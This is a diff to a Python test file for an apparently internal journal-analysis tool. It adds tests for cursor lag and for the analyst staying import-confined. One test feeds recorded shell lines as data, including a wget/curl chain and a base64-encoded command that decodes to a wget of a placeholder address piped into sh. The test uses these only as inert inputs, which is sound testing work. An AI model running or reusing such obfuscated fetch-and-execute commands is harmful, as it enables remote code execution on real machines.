@@ -1,5 +1,7 @@
 import asyncio
 import sqlite3
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -13,7 +15,7 @@ from hermes.analysis.reader import IndexReader
 from hermes.analysis.search import search
 from hermes.analysis.work import RETRY_SECONDS, run
 from hermes.config import Settings
-from hermes.store import Journal, pruning
+from hermes.store import Journal, cursors, pruning
 from hermes.tasks import TaskOwner
 from tests.unit.analysis.facts import Names, analyst, both, ran, settings, typed, visit, work
 from tests.unit.store.facts import eventually, write
@@ -113,6 +115,7 @@ def test_a_new_journal_has_an_index_of_its_own(tmp_path: Path) -> None:
 @pytest.fixture
 def often(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sweep, "INTERVAL", 0.0)
+    monkeypatch.setattr(sweep, "SHARE", 0)
     monkeypatch.setattr(sweep, "STEP", 3)
 
 
@@ -255,3 +258,55 @@ def test_the_same_events_give_the_same_rows_however_they_are_cut(tmp_path: Path)
             )
     assert dumps[0] == dumps[1]
     assert dumps[0][0][0][0] == 1 << SHIFT
+
+
+def test_others_are_told_how_far_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("hermes.analysis.work.TELL_SECONDS", 0.0)
+    made = settings(tmp_path)
+    write(made.journal_path, *visit("one"))
+    with analyst(made) as working:
+        work(working)
+    write(made.journal_path, *visit("two"))
+    (standing,) = cursors.standing(made.journal_path, made.index_dir, ["analyst"])
+    assert standing.lag == 6
+
+
+CONFINED = """
+import sys
+from hermes.analysis.work import Analyst, stages
+from hermes.config import Settings
+
+class TooLate:
+    def find_spec(self, name, path=None, target=None):
+        raise ModuleNotFoundError(f"{name} is imported too late", name=name)
+
+sys.meta_path.insert(0, TooLate())
+made = Settings.model_validate({"data_dir": sys.argv[1]})
+analyst = Analyst(made, stages(made))
+analyst.open()
+while not analyst.step():
+    pass
+print(analyst.index.db.execute("SELECT sum(skipped) FROM index_stages").fetchone()[0], analyst.index.position.id)
+analyst.close()
+"""
+
+
+def test_nothing_is_imported_once_it_is_confined(tmp_path: Path) -> None:
+    made = settings(tmp_path)
+    lines = [
+        "wget http://ex\xe4mple.com/\u2126; curl http://[::1]:80/",
+        "(((",
+        "echo d2dldCBodHRwOi8vMTkyLjAuMi4x|base64 -d|sh",
+        "\x1b[A\0",
+    ]
+    write(
+        made.journal_path,
+        *visit("one"),
+        *typed("one", *lines),
+        *ran("one", *lines),
+        events.ClientVersion(version="no connection"),
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", CONFINED, str(tmp_path)], capture_output=True, text=True, timeout=60, check=False
+    )
+    assert (done.stdout, done.returncode) == ("0 15\n", 0), done.stderr
